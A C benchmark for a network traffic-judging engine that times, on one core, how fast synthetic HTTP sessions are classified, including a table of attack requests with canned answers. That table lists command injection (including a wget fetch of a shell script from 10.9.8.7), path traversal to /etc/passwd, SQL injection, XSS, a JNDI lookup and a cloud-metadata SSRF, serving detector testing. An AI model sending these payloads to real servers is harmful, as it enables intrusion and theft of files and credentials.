/*
 * How fast traffic is judged, from decoded packets to verdicts, on one core.
 *
 *     bench_engine_judge pages [MEGABYTES]     pages of 2 to 200 KB, a third packed, keep-alive
 *     bench_engine_judge attacks [REQUESTS]    attacks of many kinds, each answered
 *     bench_engine_judge large [REQUESTS]      the same on a server of which 4,000 pages are known
 *
 * CPU time, so that what else the machine does hardly matters.
 */
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <zlib.h>

#include "base/buffer.h"
#include "base/time.h"
#include "engine/judge.h"

enum { PAGES = 64, SEGMENT = 1448, KEPT_ALIVE = 10 };

struct bench {
    struct judge *judge;
    struct packets packets;
    int64_t time;
    uint64_t number, bytes, requests;
    uint64_t outcomes[OUTCOME_COUNT];
};

struct line {
    uint16_t port;
    uint32_t client;
    uint32_t sequence[2];
};

static double cpu_seconds(void)
{
    struct timespec now;
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &now);
    return (double)now.tv_sec + (double)now.tv_nsec * 1e-9;
}

static int judged(void *context, const struct judgement *judgement)
{
    struct bench *bench = context;
    bench->outcomes[judgement->verdict->outcome]++;
    return 0;
}

static void check(int error, const char *what)
{
    if (error == 0)
        return;
    fprintf(stderr, "bench_engine_judge: %s: %s\n", what, strerror(-error));
    exit(EXIT_FAILURE);
}

static void hand(struct bench *bench)
{
    check(judge_packets(bench->judge, &bench->packets), "judge");
    bench->packets.count = 0;
}

static void packet_put(struct bench *bench, struct line *line, int side, uint8_t flags,
                       struct bytes data)
{
    if (bench->packets.count == PACKET_ROWS)
        hand(bench);
    struct packets *packets = &bench->packets;
    uint32_t row = packets->count++;
    struct ip ends[2] = {{{0}}, {{0}}};
    memcpy(ends[0].octets + 12, &line->client, 4);
    ends[1].octets[15] = 2;
    packets->time[row] = packets->clock[row] = packets->newest = bench->time += 10000;
    packets->number[row] = ++bench->number;
    packets->source_ip[row] = ends[side];
    packets->destination_ip[row] = ends[!side];
    packets->source_port[row] = side ? 80 : line->port;
    packets->destination_port[row] = side ? line->port : 80;
    packets->protocol[row] = PROTOCOL_tcp;
    packets->has[row] = PACKET_PORTS | PACKET_TCP;
    packets->tcp_flags[row] = flags;
    packets->tcp_sequence[row] = line->sequence[side];
    packets->payload[row] = data;
    packets->payload_length[row] = (uint16_t)data.len;
    line->sequence[side] += (uint32_t)data.len + (flags & (TCP_SYN | TCP_FIN) ? 1 : 0);
    bench->bytes += data.len + 54;
}

/* In segments, each second one acknowledged. */
static void say(struct bench *bench, struct line *line, int side, struct bytes data)
{
    for (int n = 0; data.len; n++) {
        struct bytes piece = {data.at, data.len < SEGMENT ? data.len : SEGMENT};
        packet_put(bench, line, side, TCP_ACK, piece);
        if (n % 2)
            packet_put(bench, line, !side, TCP_ACK, (struct bytes){0});
        data = bytes_from(data, piece.len);
    }
}

static struct line line_open(struct bench *bench, uint32_t n)
{
    struct line line = {(uint16_t)(1024 + n % 60000), 10 + (n / 60000 << 8), {n, ~n}};
    packet_put(bench, &line, 0, TCP_SYN, (struct bytes){0});
    packet_put(bench, &line, 1, TCP_SYN | TCP_ACK, (struct bytes){0});
    return line;
}

static void line_close(struct bench *bench, struct line *line)
{
    packet_put(bench, line, 0, TCP_FIN | TCP_ACK, (struct bytes){0});
    packet_put(bench, line, 1, TCP_FIN | TCP_ACK, (struct bytes){0});
}

static uint64_t seed = 1;

static uint32_t chance(uint32_t below)
{
    seed = seed * 6364136223846793005u + 1442695040888963407u;
    return (uint32_t)(seed >> 33) % below;
}

static struct bytes packed(struct bytes text)
{
    z_stream stream = {.next_in = (Bytef *)(uintptr_t)text.at, .avail_in = (unsigned)text.len};
    char *out = malloc(text.len + 1024);
    if (!out || deflateInit2(&stream, 6, Z_DEFLATED, 31, 8, Z_DEFAULT_STRATEGY) != Z_OK)
        check(-1, "deflate");
    stream.next_out = (Bytef *)out;
    stream.avail_out = (unsigned)text.len + 1024;
    deflate(&stream, Z_FINISH);
    deflateEnd(&stream);
    return (struct bytes){out, stream.total_out};
}

/* A page with its head: words in paragraphs with links; sizes spread evenly over their orders. */
static struct bytes page_make(uint32_t n)
{
    static const char *const words[] = {"harbour", "morning", "station", "garden", "letter",
                                        "winter",  "market",  "bridge",  "silver", "window"};
    struct buffer body = {0}, page = {0};
    size_t size = (size_t)2000 << n % 7;
    buffer_put_format(&body, "<!DOCTYPE html><html><head><title>Page %u</title></head><body>", n);
    while (body.len < size) {
        buffer_put_format(&body, "<p class=\"text\"><a href=\"/item/%u?ref=list\">", chance(9999));
        for (uint32_t i = 5 + chance(40); i > 0; i--)
            buffer_put_format(&body, "%s ", words[chance(10)]);
        buffer_put(&body, BYTES("</a></p>\n"));
    }
    struct bytes text = buffer_bytes(&body);
    bool pack = n % 3 == 0;
    if (pack)
        text = packed(text);
    buffer_put_format(&page,
                      "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\n%s"
                      "Cache-Control: max-age=60\r\nContent-Length: %zu\r\n\r\n",
                      pack ? "Content-Encoding: gzip\r\n" : "", text.len);
    buffer_put(&page, text);
    buffer_finish(&body);
    return buffer_bytes(&page);
}

static struct bytes request_make(uint32_t n)
{
    struct buffer request = {0};
    buffer_put_format(
        &request,
        "GET /section/%u/item?id=%u&page=%u&sort=price HTTP/1.1\r\nHost: shop.example\r\n"
        "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0\r\n"
        "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
        "Accept-Language: en-GB,en;q=0.5\r\nAccept-Encoding: gzip, deflate, br\r\n"
        "Referer: https://shop.example/section/%u\r\nCookie: session=%08x%08x; theme=light\r\n"
        "Connection: keep-alive\r\n\r\n",
        n % 40, n, n % 9, n % 40, chance(1u << 31), chance(1u << 31));
    return buffer_bytes(&request);
}

static void pages_run(struct bench *bench, uint64_t megabytes)
{
    struct bytes pages[PAGES], requests[PAGES];
    for (uint32_t i = 0; i < PAGES; i++) {
        pages[i] = page_make(i);
        requests[i] = request_make(i);
    }
    double start = cpu_seconds();
    for (uint32_t n = 0; bench->bytes < megabytes * 1000000; n++) {
        struct line line = line_open(bench, n);
        for (int i = 0; i < KEPT_ALIVE; i++) {
            uint32_t page = chance(PAGES);
            say(bench, &line, 0, requests[page]);
            say(bench, &line, 1, pages[page]);
            bench->requests++;
        }
        line_close(bench, &line);
    }
    hand(bench);
    check(judge_flush(bench->judge), "judge");
    double took = cpu_seconds() - start;
    printf("pages: %.0f MB, %" PRIu64 " requests in %.2f s: %.0f MB/s, %.0f requests/s\n",
           (double)bench->bytes / 1e6, bench->requests, took, (double)bench->bytes / 1e6 / took,
           (double)bench->requests / took);
    for (uint32_t i = 0; i < PAGES; i++) {
        free((char *)(uintptr_t)pages[i].at);
        free((char *)(uintptr_t)requests[i].at);
    }
}

/* Targets of attacks, where %u stands for something new each time; and how each is answered. */
static const struct {
    const char *target, *answer;
} attacks[] = {
    {"/ping?host=1%%3Bid&n=%u", "<pre>PING 1\nuid=33(www-data) gid=33(www-data)\n</pre>"},
    {"/ping?host=1%%7Ccat%%20/etc/passwd&n=%u", "<pre>root:x:0:0:root:/root:/bin/bash\n</pre>"},
    {"/ping?host=$(echo%%20$((%u*3)))", "<p>unknown host</p>"},
    {"/ping?host=%%60uname%%20-a%%60&n=%u", "<p>invalid host name</p>"},
    {"/ping?host=a%%26%%26wget%%20http://10.9.8.7/%u.sh", "<p>ok</p>"},
    {"/ping?host=;sleep%%205;echo%%20%u", "<p>ok</p>"},
    {"/ping?host=a;c'a't%%24IFS/etc/os-release;%u", "<p>PRETTY_NAME=\"Debian\"</p>"},
    {"/view?file=../../../../etc/passwd&n=%u", "<p>no such file</p>"},
    {"/view?file=..%%252f..%%252fetc%%252fhosts&n=%u", "127.0.0.1 localhost\n"},
    {"/view?file=php://filter/convert.base64-encode/resource=a%u.php", "<p>denied</p>"},
    {"/item?id=%u%%20UNION%%20SELECT%%201,41*271,user()--", "<td>1</td><td>11111</td>"},
    {"/item?id=%u'%%20OR%%20'1'%%3D'1", "<td>one</td><td>two</td><td>three</td>"},
    {"/item?id=%u%%20AND%%20SLEEP(5)", "<td>one</td>"},
    {"/search?q=<script>alert(%u)</script>", "<p>nothing</p>"},
    {"/search?q=%%22%%3E%%3Cimg%%20src=x%%20onerror=alert(%u)%%3E", "<p>nothing</p>"},
    {"/?x=${jndi:ldap://10.9.8.7:1389/a%u}", "<p>welcome</p>"},
    {"/hello?name={{1337*%u}}", "<p>hello</p>"},
    {"/fetch?url=http://169.254.169.254/latest/%u", "<p>timeout</p>"},
};

/* A page of each of many endpoints. */
static void site_learn(struct bench *bench, uint32_t endpoints)
{
    for (uint32_t n = 0; n < endpoints; n++) {
        struct buffer request = {0};
        struct bytes page = page_make(1 + n % 2);
        struct line line = line_open(bench, n);
        buffer_put_format(&request, "GET /page/%u HTTP/1.1\r\nHost: shop.example\r\n\r\n", n);
        say(bench, &line, 0, buffer_bytes(&request));
        say(bench, &line, 1, page);
        line_close(bench, &line);
        hand(bench);
        buffer_finish(&request);
        free((char *)(uintptr_t)page.at);
    }
}

static void attacks_run(struct bench *bench, uint64_t requests)
{
    enum { ATTACKS = sizeof(attacks) / sizeof(*attacks) };
    struct buffer *texts = calloc(requests, 2 * sizeof(*texts));
    if (!texts)
        check(-12, "memory");
    for (uint64_t n = 0; n < requests; n++) {
        const char *answer = attacks[n % ATTACKS].answer;
        buffer_put(&texts[2 * n], BYTES("GET "));
        for (const char *c = attacks[n % ATTACKS].target; *c; c++) {
            if (c[0] == '%' && c[1] == 'u')
                buffer_put_format(&texts[2 * n], "%u", (unsigned)(1000 + n)), c++;
            else
                buffer_put_char(&texts[2 * n], *c), c += c[0] == '%' && c[1] == '%';
        }
        buffer_put(&texts[2 * n], BYTES(" HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: a/1\r\n"
                                        "Accept: */*\r\n\r\n"));
        buffer_put_format(&texts[2 * n + 1],
                          "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: "
                          "%zu\r\n\r\n<html><body>%s</body></html>",
                          strlen(answer) + 26, answer);
    }
    double start = cpu_seconds();
    for (uint64_t n = 0; n < requests; n++) {
        struct line line = line_open(bench, (uint32_t)n);
        say(bench, &line, 0, buffer_bytes(&texts[2 * n]));
        say(bench, &line, 1, buffer_bytes(&texts[2 * n + 1]));
        line_close(bench, &line);
    }
    hand(bench);
    check(judge_flush(bench->judge), "judge");
    double took = cpu_seconds() - start;
    printf("attacks: %" PRIu64 " requests in %.2f s: %.0f requests/s (%" PRIu64
           " succeeded, %" PRIu64 " failed, %" PRIu64 " unknown, %" PRIu64 " harmless)\n",
           requests, took, (double)requests / took, bench->outcomes[OUTCOME_success],
           bench->outcomes[OUTCOME_failed], bench->outcomes[OUTCOME_unknown],
           bench->outcomes[OUTCOME_benign]);
    for (uint64_t n = 0; n < 2 * requests; n++)
        buffer_finish(&texts[n]);
    free(texts);
}

int main(int argc, char **argv)
{
    bool pages = argc > 1 && strcmp(argv[1], "pages") == 0;
    bool large = argc > 1 && strcmp(argv[1], "large") == 0;
    bool attack = large || (argc > 1 && strcmp(argv[1], "attacks") == 0);
    if (!pages && !attack) {
        fprintf(stderr, "usage: bench_engine_judge pages [MEGABYTES] | attacks|large [REQUESTS]\n");
        return EXIT_FAILURE;
    }
    struct bench *bench = calloc(1, sizeof(*bench));
    if (!bench)
        return EXIT_FAILURE;
    bench->time = 1000 * TIME_SECOND;
    const struct judge_options options = {
        .wait = 30 * TIME_SECOND, .judged = judged, .context = bench};
    check(judge_new(&options, &bench->judge), "judge");
    uint64_t amount = argc > 2 ? strtoull(argv[2], NULL, 10) : pages ? 500 : 20000;
    if (large)
        site_learn(bench, 4000);
    if (pages)
        pages_run(bench, amount);
    else
        attacks_run(bench, amount);
    judge_free(bench->judge);
    free(bench);
    return EXIT_SUCCESS;
}
